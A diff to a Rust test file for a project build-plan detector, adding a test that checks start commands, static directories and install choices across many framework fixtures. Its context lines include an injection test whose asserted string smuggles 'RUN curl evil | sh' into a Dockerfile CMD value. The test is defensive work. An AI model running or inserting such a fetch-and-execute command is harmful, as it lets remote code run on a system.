@@ -107,3 +107,76 @@ fn a_hostile_command_cannot_add_a_dockerfile_instruction() {
     assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
     assert!(text.contains(r#"CMD ["/bin/sh","-c","exec node x\nRUN curl evil | sh"]"#), "{text}");
 }
+
+/// What was found wrong, by class, each with a fixture of its own: the plan must be what
+/// production runs (`start`), or the static directory a production server serves, and say why.
+#[test]
+fn each_class_found_gets_the_production_plan() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
+    // (fixture, provider, framework, start, static_dir)
+    type Case<'a> = (&'a str, &'a str, Option<&'a str>, Option<&'a str>, Option<&'a str>);
+    let cases: &[Case] = &[
+        // Development servers in production.
+        ("node-cra", "node", Some("react-scripts"), None, Some("build")),
+        ("node-angular", "node", Some("angular"), None, Some("dist/shop/browser")),
+        ("node-expo", "node", Some("expo"), None, Some("dist")),
+        ("node-next-export", "node", Some("next"), None, Some("out")),
+        // Server-rendered apps are servers, not a dist folder.
+        ("node-sveltekit", "node", Some("sveltekit"), Some("node build"), None),
+        ("node-remix", "node", Some("react-router"), Some("npm run start"), None),
+        ("node-nuxt", "node", Some("nuxt"), Some("node .output/server/index.mjs"), None),
+        // No start command before.
+        ("node-bun-ts", "node", None, Some("bun run index.ts"), None),
+        ("python-framework-prefix", "python", Some("flask"), Some("gunicorn app:app --bind 0.0.0.0:$PORT"), None),
+        (
+            "python-pyproject-inline",
+            "python",
+            Some("fastapi"),
+            Some("uvicorn main:app --host 0.0.0.0 --port $PORT"),
+            None,
+        ),
+        ("python-main-only", "python", None, Some("python main.py"), None),
+        (
+            "python-streamlit",
+            "python",
+            Some("streamlit"),
+            Some("streamlit run app.py --server.port $PORT --server.address 0.0.0.0 --server.headless true"),
+            None,
+        ),
+        // The package manager the project says, without a lockfile.
+        ("node-engines-pnpm", "node", Some("fastify"), Some("pnpm run start"), None),
+        ("node-bun-scripts", "node", None, Some("bun run start"), None),
+        // Languages misread: the backend, not its assets' package.json.
+        ("ruby-rails-assets", "ruby", Some("rails"), Some("bundle exec rails server -b 0.0.0.0 -p $PORT"), None),
+        ("php-laravel-vite", "php", Some("laravel"), None, None),
+        ("ruby-rails-api", "ruby", Some("rails"), Some("bundle exec rails server -b 0.0.0.0 -p $PORT"), None),
+    ];
+    for (name, provider, framework, start, static_dir) in cases {
+        let plan = detect(&root.join(name), &Options::default()).unwrap_or_else(|e| panic!("{name}: {e}"));
+        assert_eq!(plan.provider.as_str(), *provider, "{name}");
+        assert_eq!(plan.framework.as_ref().map(|f| f.value.as_str()), *framework, "{name}");
+        if start.is_some() || static_dir.is_some() {
+            assert_eq!(plan.start.as_ref().map(|f| f.value.as_str()), *start, "{name}: start");
+        }
+        assert_eq!(plan.static_dir.as_ref().map(|f| f.value.as_str()), *static_dir, "{name}: static");
+        if let Some(start) = &plan.start {
+            assert!(!start.from.is_empty(), "{name}: the start says which files decided it");
+        }
+    }
+    let cra = detect(&root.join("node-cra"), &Options::default()).expect("plan");
+    assert!(
+        cra.notes.iter().any(|n| n.contains("react-scripts start") && n.contains("development server")),
+        "{:?}",
+        cra.notes
+    );
+    let pnpm = detect(&root.join("node-engines-pnpm"), &Options::default()).expect("plan");
+    assert_eq!(pnpm.install.map(|i| i.value).as_deref(), Some("pnpm install"), "no lockfile to freeze to");
+    let stale = detect(&root.join("node-stale-lock"), &Options::default()).expect("plan");
+    assert_eq!(stale.install.map(|i| i.value).as_deref(), Some("npm ci"), "the lockfile is the contract");
+    assert!(stale.notes.iter().any(|n| n.contains("zod is not in the lockfile")), "{:?}", stale.notes);
+    let api = detect(&root.join("ruby-rails-api"), &Options::default()).expect("plan");
+    assert!(api.build.is_none(), "an API-only Rails app precompiles no assets");
+    let rails = detect(&root.join("ruby-rails-assets"), &Options::default()).expect("plan");
+    assert!(rails.build.is_some_and(|b| b.value.contains("assets:precompile")));
+    assert!(rails.notes.iter().any(|n| n.contains("package.json")), "{:?}", rails.notes);
+}
